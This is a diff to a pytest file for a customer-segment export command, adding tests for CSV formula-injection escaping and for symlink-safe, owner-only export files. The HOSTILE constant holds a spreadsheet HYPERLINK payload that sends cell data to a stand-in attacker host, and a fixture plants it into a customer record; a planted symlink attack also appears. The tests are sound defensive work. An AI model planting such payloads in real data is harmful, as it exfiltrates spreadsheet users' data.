@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import stat
 from pathlib import Path
 
 import pytest
@@ -51,7 +52,7 @@ def test_masked_export_hides_personal_data(vip_segment: str) -> None:
             alice = next(csv.DictReader(io.StringIO(result.stdout)))
             assert (alice["email"], alice["phone"], alice["birthDate"]) == (
                 "a***@example.com",
-                "+86*******5678",
+                "'+86*******5678",  # a leading + would be a formula to a spreadsheet
                 "",
             )
         else:
@@ -93,3 +94,47 @@ def test_bad_as_of_and_format_are_named(vip_segment: str) -> None:
     result = runner.invoke(app, ["segment", "export", vip_segment, "--format", "xml"])
     assert result.exit_code == 2
     assert "xml" in result.stderr and "Traceback" not in result.output
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.fixture
+async def hostile_bob(vip_segment: str, graph: Graph) -> str:
+    """The VIP segment, with member c2's name and city text a spreadsheet would run."""
+    await graph.run_text(
+        "t", "MATCH (c:Customer {id: 'c2'}) SET c.name = $name, c.city = '@SUM(1)'",
+        name=HOSTILE, write=True,
+    )  # fmt: skip
+    return vip_segment
+
+
+def test_csv_cells_never_run_as_formulas(hostile_bob: str) -> None:
+    """Names come from imports (anyone's text): a cell starting with = + - @ gets a leading
+    quote in CSV, the value stays as it is in JSON Lines."""
+    hostile = HOSTILE
+    vip_segment = hostile_bob
+    args = ["segment", "export", vip_segment, "--as-of", "2025-03-10"]
+    result = runner.invoke(app, args)
+    assert result.exit_code == 0, result.output
+    bob = list(csv.DictReader(io.StringIO(result.stdout)))[1]
+    assert (bob["name"], bob["city"]) == ("'" + hostile, "'@SUM(1)")
+    assert bob["region"] == "North"  # ordinary text untouched
+    result = runner.invoke(app, [*args, "--format", "jsonl"])
+    bob = json.loads(result.stdout.splitlines()[1])
+    assert (bob["name"], bob["city"]) == (hostile, "@SUM(1)")
+
+
+def test_export_files_are_owner_only_and_never_written_through_a_link(
+    vip_segment: str, tmp_path: Path
+) -> None:
+    target = tmp_path / "vip.csv"
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    (tmp_path / ".vip.csv.partial").symlink_to(victim)  # planted where the export writes
+    result = runner.invoke(app, ["segment", "export", vip_segment, "-o", str(target)])
+    assert result.exit_code == 0, result.output
+    assert victim.read_text() == "keep me"
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    assert target.read_text(encoding="utf-8").startswith(",".join(COLUMNS))
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["victim.txt", "vip.csv"]
